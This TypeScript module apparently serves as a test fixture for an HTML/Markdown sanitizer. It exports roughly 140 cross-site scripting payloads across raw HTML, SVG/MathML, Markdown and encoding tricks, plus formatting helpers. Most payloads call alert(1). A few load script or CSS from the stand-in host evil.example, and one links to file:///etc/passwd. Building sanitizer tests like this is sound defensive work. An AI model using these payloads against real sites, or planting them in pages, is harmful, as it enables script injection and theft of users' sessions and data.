/** Calls that a string tries to bring about; the tests notice every one of them. */
const RUN = 'alert(1)';

/** Elements and attributes that run something by themselves, or when they are touched. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'"--></style></script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}" `,
  `<img/src/onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<img src=x:${RUN} onerror=eval(src)>`,
  `<image src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="#" onmouseover=${RUN}>x</a>`,
  `<div onpointerenter=${RUN} style="position:fixed;inset:0">x</div>`,
  `<p style="animation-name:x" onanimationstart=${RUN}>x</p>`,
  `<xss onfocus=${RUN} autofocus tabindex=1>x</xss>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${RUN}>x</div>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="javascript:/a/-${RUN}/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<frameset onload=${RUN}>`,
  `<table background="javascript:${RUN}"><tr><td>x</td></tr></table>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
];

/** Foreign content, and markup that changes its meaning when it is parsed a second time. */
const FOREIGN = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><animate attributeName=href values=javascript:${RUN} /><a id=x><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${RUN}'>"></style></h1>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "javascript:${RUN}">]><x>&y;</x>`,
  `<form id=x><input name=attributes><input name=innerHTML onfocus=${RUN} autofocus></form>`,
  `<a id=defaultView><a id=defaultView name=document href="javascript:${RUN}">x</a>`,
];

/** What Markdown makes links, images and code of. */
const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](  javascript:${RUN} "title")`,
  `[x](<javascript:${RUN}>)`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](blob:https://evil.example/1)`,
  `[x](file:///etc/passwd)`,
  `[x][y]\n\n[y]: javascript:${RUN}`,
  `[x](https://evil.example "\\"onmouseover=${RUN} x=\\"")`,
  `[x](https://evil.example"onmouseover=${RUN}//)`,
  `![x](javascript:${RUN})`,
  `![x](https://evil.example/x.png"onerror="${RUN})`,
  `![x" onerror="${RUN}](x)`,
  `![<img src=x onerror=${RUN}>](x)`,
  `<javascript:${RUN}>`,
  `<https://evil.example/"onmouseover=${RUN}>`,
  `https://evil.example/"onmouseover="${RUN}`,
  `www.evil.example/<script>${RUN}</script>`,
  `a@evil.example"><img src=x onerror=${RUN}>`,
  `\`\`\`"><img src=x onerror=${RUN}>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `\`\`\`html onclick=${RUN}\nx\n\`\`\``,
  `\`</code><script>${RUN}</script>\``,
  `    </pre><script>${RUN}</script>`,
  `# <img src=x onerror=${RUN}>`,
  `> <svg onload=${RUN}>`,
  `| a <img src=x onerror=${RUN}> | b |\n| :-: | " onclick=${RUN} |\n| [x](javascript:${RUN}) | <b onclick=${RUN}>x</b> |`,
  `- [ ] <input onfocus=${RUN} autofocus>`,
  `~~<s onclick=${RUN}>x</s>~~`,
  `**<b>*<img src=x onerror=${RUN}>**</b>*`,
  `[a]: <javascript:${RUN}> "x"\n\n[a]`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}">x</a>`,
  `[<script>${RUN}</script>](https://evil.example)`,
];

/** Entities, encodings, templates, styles and signs that some layer may turn into something else. */
const TRICKS = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u200bscript>${RUN}</script>`,
  `\u202e<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{{7*7}}[[${RUN}]]`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>*{background:url(javascript:${RUN})}</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  `<b/style=position:fixed;top:0;left:0;font-size:999px>x</b>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `{"$t":"map","v":[["__html","<img src=x onerror=${RUN}>"]]}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `\r\ndata: {"text":"<script>${RUN}</script>"}\r\n`,
  `event: done\ndata: <script>${RUN}</script>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
];

export const XSS_STRINGS: readonly string[] = [...ELEMENTS, ...FOREIGN, ...MARKDOWN, ...TRICKS];

/** All of them as a Markdown list: an item ends whatever a string opens, so that none hides those behind it. */
export function asMarkdownList(strings: readonly string[]): string {
  return strings.map((text) => `- ${text.replaceAll('\n', '\n  ')}`).join('\n\n');
}

/** The strings in pieces of at most `size` characters. */
export function inPieces(strings: readonly string[], size: number): string[] {
  const pieces: string[] = [];
  for (const text of strings) {
    const last = pieces.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= size)
      pieces[pieces.length - 1] = `${last} ${text}`;
    else pieces.push(text);
  }
  return pieces;
}
